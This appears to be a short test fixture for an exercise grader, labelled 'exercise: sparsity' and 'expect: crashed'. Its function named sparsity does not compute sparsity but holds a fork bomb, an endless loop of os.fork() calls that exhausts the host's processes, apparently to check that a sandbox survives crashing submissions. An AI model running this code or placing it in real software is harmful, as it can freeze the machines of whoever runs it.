# exercise: sparsity
# expect: crashed
import os


def sparsity(num_users, num_items, num_ratings):
    while True:
        try:
            os.fork()
        except OSError:
            pass
